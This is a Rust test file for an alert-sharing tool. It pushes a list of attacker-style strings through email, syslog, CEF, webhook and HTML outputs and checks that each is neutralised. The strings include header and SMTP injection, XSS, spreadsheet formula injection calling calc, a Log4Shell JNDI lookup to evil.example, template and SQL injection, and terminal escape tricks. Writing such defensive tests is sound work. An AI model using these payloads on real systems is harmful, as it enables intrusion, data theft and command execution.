//! Text that attackers chose, through every sink, read back.

use crate::scene::{MEMBERS, alert, config, gate, infection};
use noroshi_model::member::WebhookShape;
use noroshi_model::tlp::Tlp;
use noroshi_share::mail::Sender;
use noroshi_share::safe::is_hidden;
use noroshi_share::{document, mail, syslog, webhook};

/// Seeds of mischief; each is tried alone and around each other: more than 500 strings.
const SEEDS: [&str; 26] = [
    "\r\nBcc: everyone@evil.example",
    "\n.\r\nQUIT\r\n",
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "http://evil.example/a.sh",
    "=HYPERLINK(\"http://evil.example\")",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\u{1b}]8;;http://evil.example\u{7}click\u{1b}]8;;\u{7}",
    "\u{1b}[2J\u{1b}[31m",
    "\u{202e}gpj.exe",
    "\u{2066}a\u{2069}",
    "\u{0}",
    "${jndi:ldap://evil.example/a}",
    "{{ 7 * 7 }}",
    "{% for x in y %}",
    "{tlp}{member}",
    "CEF:0|x|y|z",
    "a=b src=1.2.3.4",
    "<!channel> <@U1> @here",
    "[click](http://evil.example)",
    "]]><x/>",
    "' OR 1=1 --",
    "--noroshi-boundary",
    "198.18.3.4 kyoto-3",
];

pub fn strings() -> Vec<String> {
    let mut all: Vec<String> = SEEDS.iter().map(|s| (*s).to_owned()).collect();
    for first in SEEDS {
        all.extend(SEEDS.iter().map(|second| format!("{first}{second}")));
    }
    all
}

#[test]
fn no_string_acts_in_any_sink() {
    let config = config(MEMBERS);
    let sender = Sender { from: "n@noroshi.example".parse().unwrap(), domain: "noroshi.example".into() };
    let all = strings();
    assert!(all.len() >= 500);
    let mut plain_headers = None;
    for text in all {
        let mut statement = infection("university", "203.0.113.20", &text, 0);
        statement.testimony.by = text.clone();
        let alert = alert(&config, &statement);
        let cleared = gate().alert(&alert, Tlp::Amber).unwrap();
        let document = document::write(&cleared, &text, None);
        let message = mail::write(&cleared, &document, &sender, &["a@b.example".into()], None).unwrap();
        let wire = String::from_utf8(message.formatted()).unwrap();
        let (head, body) = wire.split_once("\r\n\r\n").unwrap();
        let names: Vec<String> = head
            .split("\r\n")
            .filter(|l| !l.starts_with([' ', '\t']))
            .map(|l| l.split(':').next().unwrap().to_owned())
            .collect();
        assert_eq!(plain_headers.get_or_insert(names.clone()), &names, "a header more or less: {text:?}");
        assert!(!head.to_ascii_lowercase().contains("\nbcc"), "{text:?}");
        assert!(!body.contains("\r\n.\r\n"));
        for shown in [document.footer.as_str(), document.lead.as_str()]
            .into_iter()
            .chain(document.items.iter().flat_map(|i| i.evidence.iter().map(String::as_str)))
        {
            assert!(!shown.chars().any(is_hidden), "{text:?} {shown:?}");
        }
        for said in document.items.iter().flat_map(|i| &i.evidence) {
            assert!(!said.contains("://") && !said.contains("198.18.") && !said.contains("kyoto"), "{said}");
        }
        for line in syslog::lines(&cleared, None) {
            assert!(!line.contains('\n') && !line.chars().any(is_hidden));
            assert_eq!(unescaped_bars(&line), 7, "{line}");
        }
        for shape in WebhookShape::ALL {
            let body = webhook::body(&cleared, &document, *shape, None);
            let read: serde_json::Value = serde_json::from_str(&body.to_string()).unwrap();
            assert_eq!(read, body);
            if *shape == WebhookShape::Slack {
                assert!(!body.to_string().contains("<!") && !body.to_string().contains("<@"));
            }
        }
    }
}

/// Bars that separate fields of the CEF header; escaped ones and those of the extension do not.
fn unescaped_bars(line: &str) -> usize {
    let start = line.find("CEF:").unwrap();
    let header = line[start..].split("rt=").next().unwrap();
    header.replace("\\\\", "").replace("\\|", "").matches('|').count()
}

#[test]
fn html_has_no_active_parts() {
    let config = config(MEMBERS);
    let sender = Sender { from: "n@noroshi.example".parse().unwrap(), domain: "noroshi.example".into() };
    let statement = infection("university", "203.0.113.20", "<script>alert(1)</script><img src=x onerror=y>", 0);
    let alert = alert(&config, &statement);
    let cleared = gate().alert(&alert, Tlp::Amber).unwrap();
    let document = document::write(&cleared, "<b>Name</b>", None);
    let message = mail::write(&cleared, &document, &sender, &["a@b.example".into()], None).unwrap();
    let wire = String::from_utf8(message.formatted()).unwrap().replace("=\r\n", "").replace("=3D", "=");
    let html = &wire[wire.find("<!DOCTYPE html>").unwrap()..];
    assert!(html.contains("&lt;script&gt;"), "{html}");
    for active in ["<script", "<img", "<b>", "javascript:"] {
        assert!(!html.contains(active), "{active}");
    }
}
